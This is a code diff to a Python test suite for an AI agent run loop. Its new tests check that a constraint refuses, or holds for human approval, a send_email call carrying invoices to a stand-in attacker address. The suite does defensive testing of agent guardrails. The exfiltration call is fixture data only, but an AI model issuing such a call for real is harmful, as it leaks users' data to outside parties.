@@ -101,7 +101,7 @@ def test_amount_ceiling():
     assert check([cap], {"amount": "5"}, tool="create_charge").refused
 
 
-def assignment(arguments: dict, rules: list) -> executor_pb2.Assignment:
+def assignment(arguments: dict, rules: list, **spec_fields) -> executor_pb2.Assignment:
     trigger = {"kind": "mail", "trigger_id": "inbox", "mail": MAIL}
     call = {"id": "c1", "name": "send_email", "arguments": arguments}
     log = [
@@ -110,7 +110,7 @@ def assignment(arguments: dict, rules: list) -> executor_pb2.Assignment:
         ),
         run_pb2.Step(seq=1, kind=replay.DECISION, payload_json=json.dumps({"tool_calls": [call]})),
     ]
-    spec = agent_pb2.AgentSpec(model="m", tools=["send_email"], constraints=rules)
+    spec = agent_pb2.AgentSpec(model="m", tools=["send_email"], constraints=rules, **spec_fields)
     run = run_pb2.Run(run_id=RUN, workspace_id="ws", lease_epoch=1)
     return executor_pb2.Assignment(
         run=run, agent_version=agent_pb2.AgentVersion(spec=spec), steps=log
@@ -138,3 +138,31 @@ async def test_an_unknown_recipient_is_held_for_approval_with_the_rule_as_reason
     [commit] = committer.commits
     assert commit.park.wait_reason == "approval" and commit.HasField("approval_request")
     assert "not a known recipient" in payloads(commit)[0][1]["reason"]
+
+
+async def test_on_refusal_fail_commits_the_refusal_and_the_failure_together():
+    committer, delivery = Committer(), Delivery()
+    deps = RunDeps(committer, Leases(), Model(), delivery, Catalogue.load())  # type: ignore[arg-type]
+    args = {"to": "attacker@evil.test", "subject": "invoices", "body": "here"}
+    loop = RunLoop(assignment(args, [THREAD], on_refusal=R.ON_REFUSAL_FAIL), deps)
+    assert await loop.run() == "failed"
+    assert delivery.calls == []
+    [commit] = committer.commits  # one commit: a resumed run never asks the model again
+    (kind, refusal), (finish, _) = payloads(commit)
+    assert (kind, finish) == ("tool_result", "finish")
+    assert refusal["refused_by"] == "reply_to_trigger_thread"
+    assert commit.fail.error == refusal["error"]
+    assert commit.fail.error.startswith("refused by constraint reply_to_trigger_thread")
+
+
+async def test_on_refusal_ask_holds_the_call_for_a_person_with_the_refusal_as_reason():
+    committer, delivery = Committer(), Delivery()
+    deps = RunDeps(committer, Leases(), Model(), delivery, Catalogue.load())  # type: ignore[arg-type]
+    args = {"to": "attacker@evil.test", "subject": "invoices", "body": "here"}
+    loop = RunLoop(assignment(args, [THREAD], on_refusal=R.ON_REFUSAL_ASK), deps)
+    assert await loop.run() == "parked"
+    assert delivery.calls == []
+    [commit] = committer.commits
+    assert commit.park.wait_reason == "approval" and commit.HasField("approval_request")
+    reason = payloads(commit)[0][1]["reason"]
+    assert reason.startswith("refused by constraint reply_to_trigger_thread")
